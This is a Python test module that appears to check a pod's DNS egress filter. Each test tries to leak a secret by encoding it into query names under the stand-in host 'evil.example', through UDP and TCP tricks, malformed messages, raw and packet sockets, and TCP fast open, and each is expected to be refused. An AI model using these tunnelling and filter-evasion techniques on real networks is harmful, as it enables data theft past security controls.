"""DNS as a way out: the secret in the names that the pod's own resolver is asked for."""

import socket
import struct
import time

from attack import *

SERVERS = (RESOLVER4, RESOLVER6)
TUNNEL = SECRET.decode().replace(" ", "-") + ".evil.example"


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def query(qname=TUNNEL, flags=0x0100, questions=1, kind=16):
    return struct.pack("!HHHHHH", 9, flags, questions, 0, 0, 0) + name(qname) + struct.pack("!HH", kind, 1)


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def datagram(data):
    for server in SERVERS:
        with socket.socket(family(server), socket.SOCK_DGRAM) as s:
            s.settimeout(TIMEOUT)
            attempt(lambda: s.sendto(data, (server, 53)), lambda: s.recv(1000))


def stream(*parts):
    for server in SERVERS:
        with socket.socket(family(server), socket.SOCK_STREAM) as s:
            s.settimeout(TIMEOUT)

            def talk():
                s.connect((server, 53))
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for part in parts:
                    s.send(part)
                    time.sleep(0.02)
                s.recv(1000)

            attempt(talk)


def framed(data):
    return struct.pack("!H", len(data)) + data


@way(refusing=True)
def query_over_udp():
    """A query for a name that no rule matches."""
    datagram(query())


@way(refusing=True)
def connected_query():
    """The same by a connected socket, again and again."""
    for server in SERVERS:
        with socket.socket(family(server), socket.SOCK_DGRAM) as s:
            s.settimeout(0.05)
            s.connect((server, 53))
            for _ in range(3):
                attempt(lambda: s.send(query()), lambda: s.recv(1000))


@way(refusing=True)
def several_in_one_send():
    """Behind a query for an allowed name, by which the interface makes two datagrams of one (UDP_SEGMENT)."""
    allowed, tunnel = query(NAME, kind=1), query()
    size = max(len(allowed), len(tunnel))
    for server in SERVERS:
        with socket.socket(family(server), socket.SOCK_DGRAM) as s:
            s.setsockopt(17, 103, size)
            attempt(lambda: s.sendto(allowed.ljust(size, b"\0") + tunnel.ljust(size, b"\0"), (server, 53)))


@way(refusing=True)
def query_over_tcp():
    """The same over TCP."""
    stream(framed(query()))


@way(refusing=True)
def query_behind_others():
    """Over TCP, in a segment behind those of allowed ones."""
    stream(framed(query(NAME, kind=1)), framed(query(NAME, kind=28)), framed(query()))


@way(refusing=True)
def pipelined():
    """Over TCP, a dozen allowed queries and the tunnel's in one segment."""
    stream(framed(query(NAME, kind=1)) * 12 + framed(query()))


@way(refusing=True)
def no_query():
    """Messages that are no queries: an answer, another opcode, two questions, none."""
    for flags, questions in ((0x8180, 1), (0x2800, 1), (0x0100, 2), (0x0100, 0)):
        datagram(query(flags=flags, questions=questions))
        stream(framed(query(flags=flags, questions=questions)))


@way(refusing=True)
def no_message():
    """Not DNS at all, to the DNS port."""
    datagram(SECRET)
    stream(framed(SECRET) + framed(query(NAME)))


@way(refusing=True)
def below_an_allowed_name():
    """A name below one that a rule allows exactly, and one that has it in the middle."""
    for qname in (TUNNEL.replace("evil.example", NAME), TUNNEL.replace("evil", NAME)):
        datagram(query(qname))
        stream(framed(query(qname)))


@way(refusing=True, caps=["net_raw"])
def frames_with_queries():
    """Queries in frames, past the programs on the pod's cgroup."""
    def frames(data):
        send_frame(ip4(POD4, RESOLVER4, 17, udp_segment(POD4, RESOLVER4, 5000, 53, data)))
        send_frame(ip6(POD6, RESOLVER6, 17, udp_segment(POD6, RESOLVER6, 5000, 53, data)))
        for flags in (0x02, 0x18, 0x10, 0x04):
            send_frame(ip4(POD4, RESOLVER4, 6, tcp_segment(POD4, RESOLVER4, 5000, 53, flags, framed(data))))
            send_frame(ip6(POD6, RESOLVER6, 6, tcp_segment(POD6, RESOLVER6, 5000, 53, flags, framed(data))))

    attempt(lambda: frames(query()), lambda: frames(SECRET))


@way(refusing=True, caps=["net_raw"])
def cooked_queries():
    """The same by a socket that makes the Ethernet header itself (SOCK_DGRAM), beside a connection that is open."""
    cooked = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
    with socket.create_connection((RESOLVER4, 53), TIMEOUT) as open_one:
        port = open_one.getsockname()[1]
        for sender in (5000, port):
            for packet in (ip4(POD4, RESOLVER4, 17, udp_segment(POD4, RESOLVER4, sender, 53, query())),
                           ip4(POD4, RESOLVER4, 6, tcp_segment(POD4, RESOLVER4, sender, 53, 0x18, framed(query())))):
                attempt(lambda: cooked.sendto(packet, ("eth0", 0x0800, 0, 0, gateway_mac())))


@way(refusing=True, caps=["net_raw"])
def raw_queries():
    """Queries by raw sockets."""
    for server, address in ((RESOLVER4, POD4), (RESOLVER6, POD6)):
        with socket.socket(family(server), socket.SOCK_RAW, 17) as s:
            data = udp_segment(address, server, 5000, 53, query())
            attempt(lambda: s.sendto(data, (server, 0)))


@way(refusing=True)
def query_with_the_first_packet():
    """TCP fast open: the query comes with the SYN, or is put behind it as soon as the kernel lets it."""
    # First without a cookie of the server's (TFO_CLIENT_NO_COOKIE of include/net/tcp.h): these have none.
    for setting in ("5", "1"):
        attempt(lambda: sysctl("net.ipv4.tcp_fastopen", setting))
        for server in SERVERS:
            with socket.socket(family(server), socket.SOCK_STREAM) as s:
                # Not by settimeout: where there is no cookie a socket that does not block sends a SYN alone, and forgets the query.
                for timeout in (socket.SO_SNDTIMEO, socket.SO_RCVTIMEO):
                    s.setsockopt(socket.SOL_SOCKET, timeout, struct.pack("@ll", 0, int(TIMEOUT * 1e6)))
                attempt(lambda: s.sendto(framed(query()), 0x20000000, (server, 53)), lambda: s.recv(1000))
